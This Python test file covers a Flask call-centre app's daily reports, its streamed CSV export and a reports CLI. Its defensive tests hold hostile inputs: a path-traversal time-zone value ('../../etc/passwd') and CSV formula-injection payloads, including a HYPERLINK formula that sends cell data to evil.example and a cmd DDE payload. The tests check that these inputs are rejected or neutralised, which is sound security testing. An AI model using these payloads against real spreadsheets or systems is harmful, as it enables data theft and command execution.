"""Reports (issue 17): the daily report per team day and agent, checked number by number against
the generated calls it is made from; the CSV export of the history, streamed page by page; and
`flask reports daily`."""

from __future__ import annotations

import csv
import io
import json
import random
import tracemalloc
import uuid
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import hypothesis
import psycopg2
import psycopg2.extras
import pytest
from hypothesis import strategies as st

from telnyx_flask.call_stats import NO_CALLS_ROW, TOTALS_COLUMNS, totals
from telnyx_flask.errors import StorageUnavailable
from telnyx_flask.reports import EXPORT_COLUMNS, EXPORT_PAGE_ROWS
from telnyx_flask.team_time import day_bounds

NEW_YORK = ZoneInfo("America/New_York")
SERVICE_LEVEL_SECONDS = 20
# Generated calls fall on these New York days: both of 2026's clock changes and their neighbours.
CALL_DAYS = [date(2026, 3, d) for d in range(6, 11)] + [
    date(2026, 10, 31),
    date(2026, 11, 1),
    date(2026, 11, 2),
]
OUTCOMES = ("answered", "missed", "abandoned", "declined", "voicemail")


@pytest.fixture
def settings(settings):
    """The team works in New York, with a 20 s service level."""
    settings["TEAM_TIMEZONE"] = "America/New_York"
    settings["SERVICE_LEVEL_SECONDS"] = str(SERVICE_LEVEL_SECONDS)
    return settings


@pytest.fixture
def supervisor(make_agent):
    return make_agent("Sue Visor", role="supervisor")


@dataclass
class Call:
    """A generated call_logs row: what the expectations below are computed from."""

    started_at: datetime | None
    created_at: datetime
    direction: str = "inbound"
    outcome: str = "missed"
    answered_at: datetime | None = None
    answered_by: str | None = None
    duration: int = 0

    @property
    def sort_time(self) -> datetime:
        return self.started_at or self.created_at


@pytest.fixture
def insert_calls(database_url):
    """Insert Calls into call_logs in one statement; return their ids."""

    def insert(calls: list[Call], **extra: Any) -> list[str]:
        rows = [
            (
                f"v3:report-{uuid.uuid4().hex}",
                call.direction,
                "+13125550147",
                "+13125550147",
                "+14155550123",
                call.outcome,
                call.started_at,
                call.created_at,
                call.answered_at,
                call.sort_time + timedelta(seconds=call.duration + 30),
                call.duration,
                call.answered_by,
            )
            for call in calls
        ]
        with psycopg2.connect(database_url) as conn, conn.cursor() as cur:
            returned = psycopg2.extras.execute_values(
                cur,
                "INSERT INTO call_logs (call_sid, direction, from_number, phone_number, to_number,"
                " outcome, started_at, created_at, answered_at, ended_at, duration, answered_by)"
                " VALUES %s RETURNING id::text",
                rows,
                fetch=True,
            )
        conn.close()
        return [row[0] for row in returned]

    return insert


def generated_calls(
    agent_ids: list[str], seed: int = 17, days: list[date] = CALL_DAYS
) -> list[Call]:
    """Calls on CALL_DAYS: every outcome, inbound and outbound, waits either side of the service
    level, calls at the first and last moments of each New York day, an answer clocked before
    the call started, an answerer since deleted, and one call with only created_at."""
    rng = random.Random(seed)
    calls: list[Call] = []
    for day in days:
        start, end = day_bounds(day, NEW_YORK)
        moments = [start, end - timedelta(microseconds=1), end - timedelta(minutes=30)]
        moments += [start + (end - start) * rng.random() for _ in range(25)]
        for n, moment in enumerate(moments):
            outcome = OUTCOMES[n % len(OUTCOMES)] if n < 10 else rng.choice(OUTCOMES)
            call = Call(started_at=moment, created_at=moment + timedelta(minutes=1))
            call.outcome = outcome
            call.direction = "outbound" if rng.random() < 0.1 else "inbound"
            if outcome == "answered":
                wait = rng.choice([0, 3, 19, 20, 21, 45, rng.randint(0, 60)])
                call.answered_at = moment + timedelta(seconds=wait)
                call.answered_by = rng.choice([*agent_ids, None])
                call.duration = rng.randint(1, 900)
            elif outcome == "voicemail":
                call.answered_at = moment + timedelta(seconds=30)
                call.duration = rng.randint(5, 120)  # the message: not talk time
            elif outcome == "declined":
                call.answered_by = rng.choice(agent_ids)  # claimed, then declined
            calls.append(call)
        skewed = Call(started_at=start + timedelta(hours=12), created_at=start, outcome="answered")
        skewed.answered_at = skewed.started_at - timedelta(seconds=2)  # clocks that disagree
        skewed.answered_by = agent_ids[0]
        skewed.duration = 60
        calls.append(skewed)
        calls.append(Call(started_at=None, created_at=start + timedelta(hours=13)))
    return calls


def _average(values: list[float]) -> float | None:
    return round(sum(values) / len(values), 1) if values else None


def _wait(call: Call) -> float:
    assert call.answered_at is not None and call.started_at is not None
    return max(0.0, (call.answered_at - call.started_at).total_seconds())


def expected_totals(calls: list[Call]) -> dict[str, Any]:
    """call_stats' definitions, computed here from the generated calls."""
    offered = [call for call in calls if call.direction == "inbound"]
    answered = [call for call in offered if call.outcome == "answered"]
    waits = [_wait(call) for call in answered]
    in_time = sum(1 for wait in waits if wait <= SERVICE_LEVEL_SECONDS)
    return {
        "offered": len(offered),
        **{o: sum(1 for call in offered if call.outcome == o) for o in OUTCOMES},
        "answered_within_service_level": in_time,
        "service_level": round(in_time / len(offered), 4) if offered else None,
        "average_speed_of_answer_seconds": _average(waits),
        "average_talk_seconds": _average([call.duration for call in answered]),
        "talk_seconds": sum(call.duration for call in answered),
    }


def expected_agents(calls: list[Call], names: dict[str, str]) -> list[dict[str, Any]]:
    """Each agent's answered inbound calls, by name then id."""
    rows = []
    for agent_id in sorted(names, key=lambda i: (names[i], i)):
        theirs = [
            call
            for call in calls
            if call.direction == "inbound"
            and call.outcome == "answered"
            and call.answered_by == agent_id
        ]
        if not theirs:
            continue
        waits = [_wait(call) for call in theirs]
        in_time = sum(1 for wait in waits if wait <= SERVICE_LEVEL_SECONDS)
        rows.append(
            {
                "id": agent_id,
                "name": names[agent_id],
                "answered": len(theirs),
                "average_speed_of_answer_seconds": _average(waits),
                "average_talk_seconds": _average([call.duration for call in theirs]),
                "talk_seconds": sum(call.duration for call in theirs),
                "answered_within_service_level": in_time,
                "service_level": round(in_time / len(theirs), 4),
            }
        )
    return rows


def report(client, who, /, **params):
    return client.get("/api/reports/daily", query_string=params, headers=who.headers)


@pytest.fixture
def team(make_agent) -> dict[str, str]:
    """Three agents: id -> name."""
    agents = [make_agent("Bob"), make_agent("Alice"), make_agent("Carol")]
    return {agent.id: agent.name for agent in agents}


# --- the daily report's numbers -----------------------------------------------------------


def test_every_number_of_the_daily_report_matches_the_generated_calls(
    client, supervisor, team, insert_calls
):
    calls = generated_calls(list(team))
    insert_calls(calls)
    first, last = date(2026, 3, 5), date(2026, 11, 3)
    body = report(client, supervisor, **{"from": str(first), "to": str(last)}).get_json()

    def local_day(call: Call) -> date:
        return call.sort_time.astimezone(NEW_YORK).date()

    all_days = [first + timedelta(days=n) for n in range((last - first).days + 1)]
    assert [day["day"] for day in body["days"]] == [str(day) for day in all_days]
    for day, shown in zip(all_days, body["days"], strict=True):
        that_day = [call for call in calls if local_day(call) == day]
        assert shown["totals"] == expected_totals(that_day), day
        assert shown["agents"] == expected_agents(that_day, team), day
        assert bool(that_day) == (day in CALL_DAYS), day
    assert body["total"] == expected_totals(calls)
    assert body["total"]["offered"] > 200
    assert {
        "success": True,
        "timezone": "America/New_York",
        "from": "2026-03-05",
        "to": "2026-11-03",
        "service_level_seconds": SERVICE_LEVEL_SECONDS,
    }.items() <= body.items()


def test_the_report_agrees_with_an_independent_query_per_day(
    client, supervisor, team, insert_calls, db_rows
):
    """Each day's offered and answered counts, asked of PostgreSQL day by day with the day's
    bounds worked out in Python, are the report's (grouped by local date in one query)."""
    insert_calls(generated_calls(list(team), seed=3))
    body = report(client, supervisor, **{"from": "2026-03-05", "to": "2026-03-11"}).get_json()
    for shown in body["days"]:
        start, end = day_bounds(date.fromisoformat(shown["day"]), NEW_YORK)
        [counted] = db_rows(
            "SELECT count(*) AS offered, count(*) FILTER (WHERE outcome = 'answered') AS answered"
            " FROM call_logs WHERE direction = 'inbound'"
            " AND COALESCE(started_at, created_at) >= %s AND COALESCE(started_at, created_at) < %s",
            (start, end),
        )
        assert (shown["totals"]["offered"], shown["totals"]["answered"]) == (
            counted["offered"],
            counted["answered"],
        )


def test_a_call_at_half_past_eleven_at_night_is_on_that_local_day(client, supervisor, insert_calls):
    late = datetime(2026, 3, 7, 23, 30, tzinfo=NEW_YORK)  # 04:30 UTC on the 8th
    insert_calls([Call(started_at=late, created_at=late)])
    days = {"from": "2026-03-07", "to": "2026-03-08"}
    team_days = report(client, supervisor, **days).get_json()["days"]
    assert [day["totals"]["offered"] for day in team_days] == [1, 0]
    utc_days = report(client, supervisor, **days, tz="UTC").get_json()
    assert utc_days["timezone"] == "UTC"
    assert [day["totals"]["offered"] for day in utc_days["days"]] == [0, 1]


@pytest.mark.parametrize(
    ("day", "hours"),
    [(date(2026, 3, 8), 23), (date(2026, 11, 1), 25), (date(2026, 6, 1), 24)],
)
def test_a_day_runs_from_local_midnight_to_the_next_even_when_the_clocks_change(
    client, supervisor, insert_calls, day, hours
):
    start, end = day_bounds(day, NEW_YORK)
    assert end - start == timedelta(hours=hours)
    edges = [start, end - timedelta(microseconds=1)]
    outside = [start - timedelta(microseconds=1), end]
    insert_calls([Call(started_at=at, created_at=at) for at in edges + outside])
    before, after = day - timedelta(days=1), day + timedelta(days=1)
    body = report(client, supervisor, **{"from": str(before), "to": str(after)}).get_json()
    assert [d["totals"]["offered"] for d in body["days"]] == [1, 2, 1]


def test_days_without_calls_are_listed_with_zeros(client, supervisor, database_url):
    body = report(client, supervisor, **{"from": "2026-02-27", "to": "2026-03-02"}).get_json()
    assert [day["day"] for day in body["days"]] == [
        "2026-02-27",
        "2026-02-28",
        "2026-03-01",
        "2026-03-02",
    ]
    # A day without calls shows what the totals' own SQL gives over no calls.
    with psycopg2.connect(database_url) as conn, conn.cursor() as cur:
        cur.execute(
            f"SELECT {TOTALS_COLUMNS} FROM call_logs cl WHERE false",
            {"service_level_seconds": SERVICE_LEVEL_SECONDS},
        )
        nothing = cur.fetchone()
    conn.close()
    assert nothing == NO_CALLS_ROW
    zeros = totals(nothing)
    assert totals(NO_CALLS_ROW) == zeros
    assert zeros["offered"] == 0 and zeros["average_speed_of_answer_seconds"] is None
    assert all(day == {"day": day["day"], "totals": zeros, "agents": []} for day in body["days"])
    assert body["total"] == zeros


def test_the_range_defaults_to_today_in_the_team_zone(client, supervisor):
    today = datetime.now(UTC).astimezone(NEW_YORK).date().isoformat()
    body = report(client, supervisor).get_json()
    assert (body["from"], body["to"], len(body["days"])) == (today, today, 1)
    only_to = report(client, supervisor, to="2026-03-08").get_json()
    assert (only_to["from"], only_to["to"]) == ("2026-03-08", "2026-03-08")
    since = (datetime.now(UTC).astimezone(NEW_YORK).date() - timedelta(days=2)).isoformat()
    only_from = report(client, supervisor, **{"from": since}).get_json()
    assert (only_from["from"], only_from["to"], len(only_from["days"])) == (since, today, 3)


def test_366_days_is_the_longest_report(client, supervisor):
    body = report(client, supervisor, **{"from": "2028-01-01", "to": "2028-12-31"}).get_json()
    assert len(body["days"]) == 366


def test_todays_report_agrees_with_the_supervisor_summary(client, supervisor, team, insert_calls):
    today = datetime.now(UTC).astimezone(NEW_YORK).date()
    calls = generated_calls(list(team), seed=11, days=[today])
    insert_calls(calls)
    summary = client.get("/api/supervisor/summary", headers=supervisor.headers).get_json()
    body = report(client, supervisor).get_json()
    assert body["days"][0]["day"] == summary["day"]
    assert body["days"][0]["totals"] == summary["today"]
    assert summary["today"]["offered"] > 10
    handled = {a["id"]: a["handled_today"] for a in summary["agents"] if a["handled_today"]}
    assert {a["id"]: a["answered"] for a in body["days"][0]["agents"]} == handled
    talk = {a["id"]: a["talk_seconds_today"] for a in summary["agents"] if a["handled_today"]}
    assert {a["id"]: a["talk_seconds"] for a in body["days"][0]["agents"]} == talk


# --- the daily report's refusals ----------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "code", "parameter"),
    [
        ("from=2026-3-5", "invalid_parameter", "from"),
        ("from=20260305", "invalid_parameter", "from"),
        ("from=2026-02-30", "invalid_parameter", "from"),
        ("to=2026-03-05T00:00", "invalid_parameter", "to"),
        ("to=", "invalid_parameter", "to"),
        ("to=%D9%A2%D9%A0%D9%A2%D9%A6-03-05", "invalid_parameter", "to"),  # Arabic digits
        ("from=0001-01-01&to=2026-01-01", "invalid_parameter", "from"),
        ("to=9999-12-31", "invalid_parameter", "to"),
        ("from=2026-03-06&to=2026-03-05", "invalid_range", "to"),
        ("from=2026-01-01&to=2027-01-02", "invalid_range", "to"),
        ("from=2000-01-01", "invalid_range", "from"),  # to is today
        ("from=9000-01-01", "invalid_range", "from"),
        ("tz=Mars/Olympus_Mons", "invalid_parameter", "tz"),
        ("tz=America", "invalid_parameter", "tz"),  # a folder of the zone files
        ("tz=../../etc/passwd", "invalid_parameter", "tz"),
        ("tz=" + "A" * 300, "invalid_parameter", "tz"),
        ("tz=", "invalid_parameter", "tz"),
        ("tz=%00", "invalid_parameter", "tz"),
        ("day=2026-03-05", "invalid_parameter", "day"),
        ("from=2026-03-05&from=2026-03-06", "invalid_parameter", "from"),
        ("tz=UTC&tz=UTC", "invalid_parameter", "tz"),
    ],
)
def test_bad_report_parameters_get_400_naming_them(client, supervisor, query, code, parameter):
    response = client.get(f"/api/reports/daily?{query}", headers=supervisor.headers)
    assert response.status_code == 400, response.get_json()
    error = response.get_json()["error"]
    assert (error["code"], error["parameter"]) == (code, parameter)
    assert error["message"]


QUERY_VALUES = st.one_of(
    st.text(max_size=40),
    st.dates().map(str),
    st.sampled_from(["UTC", "America/New_York", "Europe/Berlin", "America", "Etc", "posixrules"]),
)


@hypothesis.settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[hypothesis.HealthCheck.function_scoped_fixture],
    derandomize=True,
)
@hypothesis.given(
    params=st.dictionaries(
        st.sampled_from(["from", "to", "tz", "day", "limit", "outcome", "since", "phone"]),
        QUERY_VALUES,
        max_size=3,
    )
)
def test_any_query_gets_an_answer_never_a_server_error(client, supervisor, params):
    """Generated dates, zones and stray parameters: 200 or 400, with a JSON error naming one."""
    for path in ("/api/reports/daily", "/api/calls/export.csv"):
        response = client.get(path, query_string=params, headers=supervisor.headers)
        assert response.status_code in (200, 400), (path, params, response.get_data()[:300])
        if response.status_code == 400:
            assert response.get_json()["error"]["parameter"] in params


@pytest.mark.parametrize("path", ["/api/reports/daily", "/api/calls/export.csv"])
def test_reports_are_for_supervisors_only(client, agent, path):
    assert client.get(path).status_code == 401
    refused = client.get(path, headers=agent.headers)
    assert refused.status_code == 403
    assert refused.get_json()["error"]["code"] == "supervisors_only"


# --- the CSV export -----------------------------------------------------------------------


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert rows[0] == list(EXPORT_COLUMNS)
    return [dict(zip(EXPORT_COLUMNS, row, strict=True)) for row in rows[1:]]


def export(client, who, /, **params):
    return client.get("/api/calls/export.csv", query_string=params, headers=who.headers)


@pytest.fixture
def many_calls(database_url):
    """Insert `count` more inbound calls, three to a start time (ties the cursor must break by
    id), each older than the last."""
    inserted = 0

    def insert(count: int) -> None:
        nonlocal inserted
        with psycopg2.connect(database_url) as conn, conn.cursor() as cur:
            cur.execute(
                "INSERT INTO call_logs (call_sid, from_number, phone_number, to_number, outcome,"
                " started_at, ended_at, duration, notes)"
                " SELECT 'v3:many-' || g, '+13125550147', '+13125550147', '+14155550123',"
                " (ARRAY['answered','missed','abandoned','declined','voicemail'])[1 + mod(g, 5)],"
                " timestamptz '2026-11-20 15:00Z' - (g / 3) * interval '1 second',"
                " timestamptz '2026-11-20 15:01Z', mod(g, 300), 'note ' || g"
                " FROM generate_series(%s, %s) g",
                (inserted + 1, inserted + count),
            )
        conn.close()
        inserted += count

    return insert


def test_every_call_arrives_once_in_the_history_order(client, supervisor, many_calls, db_rows):
    many_calls(5000)
    expected = [
        row["id"]
        for row in db_rows(
            "SELECT id::text FROM call_logs ORDER BY COALESCE(started_at, created_at) DESC, id DESC"
        )
    ]
    response = export(client, supervisor)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="calls-') and disposition.endswith('.csv"')
    assert response.headers["Cache-Control"] == "private, no-store"
    assert [row["id"] for row in read_csv(response)] == expected
    assert len(expected) == 5000


def _peak_bytes_of_export(client, supervisor) -> tuple[int, int]:
    """Peak memory traced while the export is made and read (nothing kept), and its lines."""
    tracemalloc.start()
    try:
        response = client.get("/api/calls/export.csv", headers=supervisor.headers, buffered=False)
        lines = sum(chunk.count(b"\r\n") for chunk in response.response)
        response.close()
        return tracemalloc.get_traced_memory()[1], lines
    finally:
        tracemalloc.stop()


def test_the_exports_memory_does_not_grow_with_its_rows(client, supervisor, many_calls):
    """Five times the rows, about the same peak: a page is in memory at a time, never the file.
    (docs/reports.md quotes these figures.)"""
    many_calls(1000)
    small, small_lines = _peak_bytes_of_export(client, supervisor)
    many_calls(4000)
    large, large_lines = _peak_bytes_of_export(client, supervisor)
    assert (small_lines, large_lines) == (1001, 5001)
    print(f"peak traced memory: 1000 rows {small} B, 5000 rows {large} B")
    assert large < small * 1.3


@pytest.fixture
def history_calls(database_url, team):
    """Calls of every kind the history's filters tell apart; return the agents' ids."""
    agent_ids = list(team)
    rng = random.Random(23)
    numbers = ["+13125550147", "+13125550148", "+442071838750"]
    base = datetime(2026, 11, 20, 15, 0, tzinfo=UTC)
    rows = []
    for n in range(120):
        started = None if n % 17 == 0 else base - timedelta(minutes=rng.randint(0, 5000))
        outcome = OUTCOMES[n % len(OUTCOMES)]
        number = rng.choice(numbers)
        rows.append(
            (
                f"v3:history-{n}",
                "outbound" if n % 7 == 0 else "inbound",
                number,
                number,
                "+14155550123",
                outcome,
                started,
                started + timedelta(seconds=9) if started and outcome == "answered" else None,
                (started or base) + timedelta(minutes=3),
                120 if outcome == "answered" else 0,
                rng.choice(agent_ids) if outcome == "answered" else None,
                rng.choice(["resolved", "sale", None]),
                f"note {n}, with a comma" if n % 3 == 0 else None,
                agent_ids[0] if n % 11 == 0 else None,
            )
        )
    with psycopg2.connect(database_url) as conn, conn.cursor() as cur:
        psycopg2.extras.execute_values(
            cur,
            "INSERT INTO call_logs (call_sid, direction, from_number, phone_number, to_number,"
            " outcome, started_at, answered_at, ended_at, duration, answered_by, disposition,"
            " notes, transferred_from) VALUES %s",
            rows,
            template="(%s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s::uuid, %s, %s, %s::uuid)",
        )
    conn.close()
    return agent_ids


def history_ids(client, who, **params) -> list[str]:
    """Every id GET /api/calls lists for the filters, following next_cursor page by page."""
    seen: list[str] = []
    cursor = None
    while True:
        query = {**params, "limit": 7, **({"before": cursor} if cursor else {})}
        body = client.get("/api/calls", query_string=query, headers=who.headers).get_json()
        seen += [call["id"] for call in body["calls"]]
        cursor = body["next_cursor"]
        if cursor is None:
            return seen


def test_the_export_lists_what_the_history_lists_for_the_same_filters(
    client, supervisor, history_calls
):
    alice = next(iter(history_calls))
    filters: list[dict[str, str]] = [
        {},
        {"outcome": "answered"},
        {"outcome": "voicemail", "direction": "inbound"},
        {"direction": "outbound"},
        {"agent": alice},
        {"phone": "+442071838750"},
        {"phone": "13125550147"},
        {"since": "2026-11-18T00:00:00+00:00", "until": "2026-11-20T00:00:00Z"},
        {"disposition": "sale", "outcome": "answered"},
    ]
    for params in filters:
        exported = [row["id"] for row in read_csv(export(client, supervisor, **params))]
        assert exported == history_ids(client, supervisor, **params), params
        assert exported, params


def test_an_exported_row_has_every_column(client, supervisor, history_calls):
    rows = {row["id"]: row for row in read_csv(export(client, supervisor))}
    for row in rows.values():
        call = client.get(f"/api/calls/{row['id']}", headers=supervisor.headers).get_json()["call"]
        agent = call["agent"] or {}
        transferred_from = call["transferred_from"] or {}
        assert row == {
            "id": call["id"],
            "call_control_id": call["call_control_id"],
            "started_at": call["started_at"] or "",
            "answered_at": row["answered_at"],
            "ended_at": call["ended_at"],
            "direction": call["direction"],
            "from": call["from"],
            "to": call["to"],
            "caller_name": "",
            "outcome": call["outcome"],
            "duration": str(call["duration"]),
            "agent": agent.get("name", ""),
            "agent_id": agent.get("id", ""),
            "disposition": call["disposition"] or "",
            "note": call["note"] or "",
            "transferred_from": transferred_from.get("name", ""),
            "end_reason": "",
        }
        if call["outcome"] == "answered" and call["started_at"]:
            answered = datetime.fromisoformat(row["answered_at"])
            assert answered - datetime.fromisoformat(call["started_at"]) == timedelta(seconds=9)
        else:
            assert row["answered_at"] == ""
    assert any(row["transferred_from"] for row in rows.values())
    assert any("with a comma" in row["note"] for row in rows.values())


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("limit=10", "limit"),
        ("before=abc", "before"),
        ("outcome=won", "outcome"),
        ("since=yesterday", "since"),
        ("agent=bob", "agent"),
        ("disposition=unknown", "disposition"),
        ("sort=id", "sort"),
        ("outcome=answered&outcome=missed", "outcome"),
    ],
)
def test_bad_export_parameters_get_400_naming_them(client, supervisor, query, parameter):
    response = client.get(f"/api/calls/export.csv?{query}", headers=supervisor.headers)
    assert response.status_code == 400
    error = response.get_json()["error"]
    assert (error["code"], error["parameter"]) == ("invalid_parameter", parameter)
    if parameter in ("limit", "before"):
        assert "every matching call" in error["message"]


def test_cells_a_spreadsheet_would_run_start_with_a_quote(client, supervisor, db_rows):
    hostile = {
        "prospect_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "notes": "+SUM(1,2)",
        "end_reason": "-2+3+cmd|' /C calc'!A0",
        "to_number": "@SUM(A1:A9)",
        "phone_number": "\t=1+1",
        "from_number": "\r=1+1",
    }
    db_rows(
        f"INSERT INTO call_logs (call_sid, outcome, started_at, {', '.join(hostile)})"
        f" VALUES ('=v3:formula', 'missed', now(), {', '.join(['%s'] * len(hostile))})"
        " RETURNING id",
        tuple(hostile.values()),
    )
    db_rows(
        "INSERT INTO call_logs (call_sid, outcome, started_at, from_number, to_number,"
        " prospect_name) VALUES ('v3:plain', 'missed', now() - interval '1 minute',"
        " '+13125550147', '+14155550123', 'Ada = Lovelace') RETURNING id"
    )
    hostile_row, plain_row = read_csv(export(client, supervisor))
    assert hostile_row["call_control_id"] == "'=v3:formula"
    assert hostile_row["caller_name"] == "'" + hostile["prospect_name"]
    assert hostile_row["note"] == "'+SUM(1,2)"
    assert hostile_row["end_reason"] == "'" + hostile["end_reason"]
    assert hostile_row["to"] == "'@SUM(A1:A9)"
    assert hostile_row["from"] == "'\r=1+1"
    # E.164 numbers (a + and digits: nothing to run) and text that only contains = stay as they are.
    assert (plain_row["from"], plain_row["to"]) == ("+13125550147", "+14155550123")
    assert plain_row["caller_name"] == "Ada = Lovelace"


@pytest.fixture
def one_connection(settings):
    """One PostgreSQL connection per worker, and a 1 s wait for it (then 503)."""
    settings["DB_POOL_SIZE"] = "1"
    settings["DB_POOL_TIMEOUT"] = "1"
    return settings


def test_the_export_holds_no_connection_while_the_client_reads(
    one_connection, client, supervisor, many_calls
):
    many_calls(EXPORT_PAGE_ROWS * 2 + 10)
    response = client.get("/api/calls/export.csv", headers=supervisor.headers, buffered=False)
    chunks = iter(response.response)
    received = [next(chunks)]
    while True:
        # Between chunks the one connection is free: another request gets it at once.
        other = client.get("/api/calls", query_string={"limit": 1}, headers=supervisor.headers)
        assert other.status_code == 200, other.get_json()
        try:
            received.append(next(chunks))
        except StopIteration:
            break
    response.close()
    assert len(received) == 3
    assert b"".join(received).count(b"\r\n") == 1 + EXPORT_PAGE_ROWS * 2 + 10


def test_a_database_failure_mid_export_cuts_the_download_short(
    proxied, supervisor, many_calls, caplog
):
    """After the 200 has gone, a failure must not end the file as if it were complete."""
    app, proxies = proxied
    many_calls(EXPORT_PAGE_ROWS + 10)
    response = app.test_client().get(
        "/api/calls/export.csv", headers=supervisor.headers, buffered=False
    )
    assert response.status_code == 200
    chunks = iter(response.response)
    assert next(chunks).count(b"\r\n") == 1 + EXPORT_PAGE_ROWS
    proxies["postgresql"].cut()
    with pytest.raises(StorageUnavailable):
        next(chunks)
    response.close()
    assert f"CSV export cut off after {EXPORT_PAGE_ROWS} calls: postgresql unavailable" in (
        caplog.text
    )


def test_an_export_with_no_calls_is_the_header(client, supervisor):
    assert read_csv(export(client, supervisor)) == []


# --- flask reports daily ------------------------------------------------------------------


def daily_cli(runner, *arguments: str):
    return runner.invoke(args=["reports", "daily", *arguments])


def test_the_cli_json_is_the_apis_report(runner, client, supervisor, team, insert_calls):
    insert_calls(generated_calls(list(team)))
    days = ["--from", "2026-03-06", "--to", "2026-03-09"]
    result = daily_cli(runner, *days, "--format", "json")
    assert result.exit_code == 0, result.output
    api = report(client, supervisor, **{"from": "2026-03-06", "to": "2026-03-09"}).get_json()
    assert json.loads(result.output) == {k: v for k, v in api.items() if k != "success"}


def test_the_cli_csv_has_a_row_per_day_agent_and_the_total(
    runner, client, supervisor, team, insert_calls
):
    insert_calls(generated_calls(list(team)))
    result = daily_cli(runner, "--from", "2026-03-07", "--to", "2026-03-08", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output, newline="")))
    api = report(client, supervisor, **{"from": "2026-03-07", "to": "2026-03-08"}).get_json()
    expected = []
    for day in api["days"]:
        expected.append({"day": day["day"], "agent_id": "", "agent": "", **day["totals"]})
        for agent in day["agents"]:
            expected.append(
                {
                    "day": day["day"],
                    "agent_id": agent["id"],
                    "agent": agent["name"],
                    "offered": None,
                    "missed": None,
                    "abandoned": None,
                    "declined": None,
                    "voicemail": None,
                    **agent,
                }
            )
    expected.append({"day": "total", "agent_id": "", "agent": "", **api["total"]})

    def text(value: Any) -> str:
        return "" if value is None else str(value)

    assert rows == [{key: text(row.get(key)) for key in rows[0]} for row in expected]
    assert len(rows) > 4


def test_the_cli_table_shows_each_day_the_total_and_the_agents(runner, team, insert_calls):
    insert_calls(generated_calls(list(team)))
    result = daily_cli(runner, "--from", "2026-03-05", "--to", "2026-03-08", "--tz", "UTC")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == ("Calls from 2026-03-05 to 2026-03-08 (UTC); SL: answered within 20 s")
    assert lines[2].split() == [
        "day",
        "offered",
        "answered",
        "missed",
        "abandoned",
        "declined",
        "voicemail",
        "in",
        "SL",
        "SL",
        "ASA",
        "s",
        "avg",
        "talk",
        "s",
        "talk",
        "s",
    ]
    assert lines[3].split()[:2] == ["2026-03-05", "0"]
    assert lines[3].split()[-4:] == ["-", "-", "-", "0"]
    assert [line.split()[0] for line in lines[3:8]] == [
        "2026-03-05",
        "2026-03-06",
        "2026-03-07",
        "2026-03-08",
        "total",
    ]
    assert lines[9] == "Answered calls per agent"
    assert any(line.split()[1] in ("Alice", "Bob", "Carol") for line in lines[11:])


def test_the_cli_says_when_nobody_answered(runner):
    result = daily_cli(runner, "--to", "2026-03-08")
    assert result.exit_code == 0, result.output
    assert "Calls from 2026-03-08 to 2026-03-08 (America/New_York)" in result.output
    assert result.output.endswith("No calls answered by an agent.\n")


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--from", "2026-03-09", "--to", "2026-03-08"], "--to: to (2026-03-08) is before from"),
        (["--from", "March 8"], "--from: from must be a date as YYYY-MM-DD"),
        (["--tz", "Mars/Base"], "--tz: tz must be an IANA time zone name"),
        (["--from", "2020-01-01", "--to", "2026-01-01"], "--to: a report covers at most 366"),
    ],
)
def test_the_cli_refuses_bad_input(runner, arguments, message):
    result = daily_cli(runner, *arguments)
    assert result.exit_code == 1
    assert f"Error: {message}" in result.output


def test_the_cli_refuses_an_unknown_format(runner):
    result = daily_cli(runner, "--format", "xml")
    assert result.exit_code == 2
    assert "'xml' is not one of" in result.output
